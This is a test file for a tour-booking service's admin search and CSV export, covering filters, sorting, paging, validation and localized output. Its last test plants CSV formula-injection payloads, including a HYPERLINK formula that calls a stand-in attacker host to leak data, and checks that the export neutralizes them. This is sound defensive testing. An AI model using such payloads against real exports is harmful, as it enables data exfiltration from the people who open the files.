import Database from 'better-sqlite3';
import { databaseFile } from '@mt/service-kit/db';
import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { aBooking, startBookings, type BookingsHarness } from './harness';

let t: BookingsHarness;
let desert: number;
let atlas: number;

beforeEach(async () => {
  t = await startBookings();
  desert = await t.createTour({ title: 'Merzouga Desert Tour', price: 100 });
  atlas = await t.createTour({ title: 'Atlas Day Trip', price: 50, duration: '1 day' });
});
afterEach(() => t.close());

async function book(tourId: number, overrides: Record<string, unknown>): Promise<number> {
  const response = await t.app.inject({
    method: 'POST',
    url: '/api/bookings/bookings',
    payload: aBooking(tourId, overrides),
  });
  expect(response.statusCode, response.body).toBe(201);
  return response.json().id;
}

type Page = {
  items: { id: number; paid: number }[];
  total: number;
  page: number;
  page_size: number;
};

async function search(query: string): Promise<Page> {
  const response = await t.app.inject({
    method: 'GET',
    url: `/api/bookings/bookings/search?${query}`,
    cookies: t.admin,
  });
  expect(response.statusCode, response.body).toBe(200);
  return response.json();
}
const ids = async (query: string) => (await search(query)).items.map((item) => item.id);

/** Moves a booking's creation time: the service stamps it with SQLite's clock. */
function bookedAt(id: number, instant: string) {
  const db = new Database(databaseFile(t.dataDir, 'bookings'));
  db.prepare('UPDATE bookings SET created_at = ? WHERE id = ?').run(instant, id);
  db.close();
}

describe('GET /api/bookings/bookings/search, the admin’s search', () => {
  let sophie: number, karim: number, jose: number, anna: number;
  beforeEach(async () => {
    sophie = await book(desert, {
      customer_name: 'Sophie Martin',
      email: 'sophie@example.fr',
      phone: '+33 6 12 34 56 78',
      start_date: '2026-12-10',
      number_of_participants: 2,
    });
    karim = await book(atlas, {
      customer_name: 'Karim Benali',
      email: 'karim.b@mail.ma',
      phone: '0661-223344',
      start_date: '2027-01-05',
      number_of_participants: 4,
    });
    jose = await book(desert, {
      customer_name: 'José Núñez',
      email: 'jnunez@correo.es',
      phone: null,
      start_date: '2027-02-01',
      number_of_participants: 1,
    });
    anna = await book(atlas, {
      customer_name: 'anna Smith',
      email: 'anna@example.com',
      phone: '+44 20 7946 0958',
      start_date: '2026-12-20',
      number_of_participants: 3,
    });
    bookedAt(sophie, '2026-11-01T10:00:00.000Z');
    bookedAt(karim, '2026-11-10T22:30:00.000Z'); // 23:30 in Marrakech: still the 10th there
    bookedAt(jose, '2026-11-10T23:30:00.000Z'); // 00:30 on the 11th in Marrakech
    bookedAt(anna, '2026-11-20T09:00:00.000Z');
  });

  it('answers a page, newest booked first, with the total', async () => {
    const page = await search('');
    expect(page.items.map((item) => item.id)).toEqual([anna, jose, karim, sophie]);
    expect(page).toMatchObject({ total: 4, page: 1, page_size: 50 });
  });

  it('finds by a part of the name, any case and accent, by e-mail, phone or reference', async () => {
    expect(await ids('q=martin')).toEqual([sophie]);
    expect(await ids('q=jose')).toEqual([jose]);
    expect(await ids('q=N%C3%9A%C3%91EZ')).toEqual([jose]);
    expect(await ids('q=smith%20ann')).toEqual([anna]);
    expect(await ids('q=karim.b%40mail')).toEqual([karim]);
    expect(await ids('q=example')).toEqual([anna, sophie]);
    // A phone as typed, with other spaces, dashes or none, or only its end.
    expect(await ids('q=%2B33612345678')).toEqual([sophie]);
    expect(await ids('q=0661%2022')).toEqual([karim]);
    expect(await ids('q=7946%200958')).toEqual([anna]);
    const reference = `MT-${String(karim).padStart(6, '0')}`;
    expect(await ids(`q=${reference}`)).toEqual([karim]);
    expect(await ids(`q=%23${karim}`)).toEqual([karim]);
    expect(await ids('q=nobody')).toEqual([]);
  });

  it('matches short words beside a longer one, and a search’s quotes and wildcards literally', async () => {
    // Short words narrow a search; alone, they would read every booking, and find nothing.
    expect(await ids('q=ma')).toEqual([]);
    expect(await ids('q=ma%20sop')).toEqual([sophie]);
    expect(await ids('q=%22%20OR%20x')).toEqual([]);
    expect(await ids('q=%25')).toEqual([]);
  });

  it('filters by status, tour, travel dates and booking days in Marrakech', async () => {
    await t.setStatus(karim, 'confirmed');
    expect(await ids('status=confirmed')).toEqual([karim]);
    expect(await ids('status=pending&tour_id=' + desert)).toEqual([jose, sophie]);
    expect(await ids('travel_from=2026-12-15&travel_to=2027-01-31')).toEqual([anna, karim]);
    expect(await ids('travel_from=2027-01-06')).toEqual([jose]);
    expect(await ids('booked_from=2026-11-10&booked_to=2026-11-10')).toEqual([karim]);
    expect(await ids('booked_from=2026-11-11')).toEqual([anna, jose]);
    expect(await ids('booked_to=2026-11-01')).toEqual([sophie]);
  });

  it('filters the bookings not yet viewed, and those still owed money', async () => {
    await t.app.inject({
      method: 'PATCH',
      url: `/api/bookings/bookings/${anna}/mark-viewed`,
      cookies: t.admin,
    });
    expect(await ids('viewed=yes')).toEqual([anna]);
    expect((await search('viewed=no')).total).toBe(3);

    const pay = (id: number, amount: number) =>
      t.app.inject({
        method: 'POST',
        url: `/api/bookings/bookings/${id}/payments`,
        cookies: t.admin,
        payload: { amount, method: 'cash', received_on: '2026-11-21' },
      });
    expect((await pay(jose, 100)).statusCode).toBe(201); // settled: 1 × 100
    const partly = await pay(sophie, 50);
    expect(partly.statusCode).toBe(201);
    const voided = await pay(karim, 1000);
    await t.app.inject({
      method: 'POST',
      url: `/api/bookings/bookings/${karim}/payments/${voided.json().id}/void`,
      cookies: t.admin,
    });
    await t.setStatus(anna, 'cancelled');
    const unpaid = await search('payment=unpaid');
    expect(unpaid.items.map((item) => item.id)).toEqual([karim, sophie]);
    expect(unpaid.items.map((item) => item.paid)).toEqual([0, 50]);
  });

  it('sorts by travel date, name or total, either way, and pages', async () => {
    expect(await ids('sort=travel&order=asc')).toEqual([sophie, anna, karim, jose]);
    expect(await ids('sort=name')).toEqual([anna, jose, karim, sophie]);
    expect(await ids('sort=name&order=desc')).toEqual([sophie, karim, jose, anna]);
    // Totals: Sophie 2 × 100, Karim 4 × 50, José 1 × 100, Anna 3 × 50; equal totals by id.
    expect(await ids('sort=total&order=asc')).toEqual([jose, anna, sophie, karim]);
    const second = await search('sort=travel&order=asc&page=2&page_size=3');
    expect(second).toMatchObject({ total: 4, page: 2, page_size: 3 });
    expect(second.items.map((item) => item.id)).toEqual([jose]);
    expect((await search('page=9')).items).toEqual([]);
  });

  it('answers 400 with a detail on a bad parameter', async () => {
    for (const query of [
      'status=lost',
      'tour_id=abc',
      'travel_from=2026-02-30',
      'travel_from=2027-01-02&travel_to=2027-01-01',
      'booked_from=2026-11-12&booked_to=2026-11-11',
      // Out of the years every date keeps (2000–2100): never a 500 (docs/decisions/058).
      'booked_to=9999-12-31',
      'booked_from=0001-01-01',
      'travel_to=2101-01-01',
      'travel_from=1999-12-31',
      'sort=price',
      'order=up',
      'page=0',
      'page_size=101',
      'viewed=maybe',
      `q=${'x'.repeat(101)}`,
    ]) {
      const response = await t.app.inject({
        method: 'GET',
        url: `/api/bookings/bookings/search?${query}`,
        cookies: t.admin,
      });
      expect(response.statusCode, query).toBe(400);
      expect(response.json().detail, query).toEqual(expect.any(String));
    }
  });

  it('answers 401 without a session, for the list and its CSV', async () => {
    for (const url of ['/api/bookings/bookings/search?q=x', '/api/bookings/bookings/export.csv']) {
      const response = await t.app.inject({ method: 'GET', url });
      expect(response.statusCode, url).toBe(401);
    }
  });

  it('exports every match as CSV, in the reader’s language', async () => {
    const response = await t.app.inject({
      method: 'GET',
      url: `/api/bookings/bookings/export.csv?tour_id=${desert}&sort=name&lang=fr`,
      cookies: t.admin,
    });
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toMatch(/^attachment; filename="bookings-/);
    const lines = response.body.replace(/^\uFEFF/, '').split('\r\n');
    expect(lines[0]).toMatch(/^Référence;Réservée le;Client;/);
    expect(lines.slice(1, 3)).toEqual([
      `MT-${String(jose).padStart(6, '0')};2026-11-11;José Núñez;jnunez@correo.es;;Circuit désert de Merzouga;2027-02-01;2027-02-03;1;En attente;100,00;0,00;100,00;français;;Vegetarian meals, please;Groupe partagé;1 × Adulte 100${NBSP}€`,
      `MT-${String(sophie).padStart(6, '0')};2026-11-01;Sophie Martin;sophie@example.fr;'+33 6 12 34 56 78;Circuit désert de Merzouga;2026-12-10;2026-12-12;2;En attente;200,00;0,00;200,00;français;;Vegetarian meals, please;Groupe partagé;2 × Adulte 100${NBSP}€`,
    ]);
    expect(lines[3]).toBe('');

    const english = await t.app.inject({
      method: 'GET',
      url: '/api/bookings/bookings/export.csv?q=anna',
      cookies: t.admin,
    });
    expect(english.body.split('\r\n')[0]).toMatch(/^\uFEFFReference,Booked on,Customer,/);
    expect(english.body.split('\r\n')).toHaveLength(3);
    for (const query of ['lang=de', 'booked_to=9999-12-31', 'travel_from=0001-01-01']) {
      const bad = await t.app.inject({
        method: 'GET',
        url: `/api/bookings/bookings/export.csv?${query}`,
        cookies: t.admin,
      });
      expect(bad.statusCode, query).toBe(400);
      expect(bad.json().detail, query).toEqual(expect.any(String));
    }
  });
});

/** The space French writes between an amount and its currency (Intl's, not a plain space). */
const NBSP = new Intl.NumberFormat('fr-FR', { style: 'currency', currency: 'EUR' })
  .format(1)
  .replace(/[\d,€]/g, '');

describe('the bookings CSV, read back as a spreadsheet reads it', () => {
  /**
   * Special requests a visitor may type: a lone LF and a lone CR, each followed by a formula, and
   * no CRLF, quote or separator, any of which had the cell quoted already.
   */
  const REQUESTS = 'Vegetarian\n=SUM(1+1)*cmd\r@SUM(2)';

  /** Rows as a spreadsheet splits them: at CRLF, and at a lone LF or CR outside quotes. */
  function rowsOf(csv: string, language: 'en' | 'fr'): string[][] {
    return parse(csv, {
      bom: true,
      delimiter: language === 'fr' ? ';' : ',',
      record_delimiter: ['\r\n', '\n', '\r'],
      relax_column_count: true,
    });
  }

  it('keeps a visitor’s text in its cells, escapes formulas, and an overpayment a number', async () => {
    const id = await book(desert, {
      customer_name: '=HYPERLINK("http://evil.example/?leak=1","Open")',
      phone: '+212 661 223 344',
      pickup_place: '-Riad Yasmine, Derb',
      special_requests: REQUESTS,
      number_of_participants: 1,
    });
    // €100 booked, €199 received: an overpayment of €99.
    const payment = await t.app.inject({
      method: 'POST',
      url: `/api/bookings/bookings/${id}/payments`,
      cookies: t.admin,
      payload: { amount: 199, method: 'cash', received_on: '2026-11-20' },
    });
    expect(payment.statusCode, payment.body).toBe(201);

    for (const language of ['en', 'fr'] as const) {
      const response = await t.app.inject({
        method: 'GET',
        url: `/api/bookings/bookings/export.csv?lang=${language}`,
        cookies: t.admin,
      });
      expect(response.statusCode).toBe(200);
      const rows = rowsOf(response.body, language);
      expect(rows, language).toHaveLength(2);
      const [header, row] = rows as [string[], string[]];
      expect(row, language).toHaveLength(header.length);
      const amount = (text: string) => (language === 'fr' ? text.replace('.', ',') : text);
      expect(row.slice(2, 5)).toEqual([
        `'=HYPERLINK("http://evil.example/?leak=1","Open")`,
        'sophie@example.fr',
        "'+212 661 223 344",
      ]);
      expect(row.slice(10, 13)).toEqual([amount('100.00'), amount('199.00'), amount('-99.00')]);
      // Then the option and the price line by line, in the reader's language (docs/decisions/074).
      expect(row.slice(14)).toEqual([
        "'-Riad Yasmine, Derb",
        REQUESTS,
        language === 'fr' ? 'Groupe partagé' : 'Shared group',
        language === 'fr' ? `1 × Adulte 100${NBSP}€` : '1 × Adult €100',
      ]);
      // The balance is written bare: a number to the spreadsheet, not the text `'-99.00`.
      const separator = language === 'fr' ? ';' : ',';
      expect(response.body).toContain(`${separator}${amount('-99.00')}${separator}`);
    }
  });
});
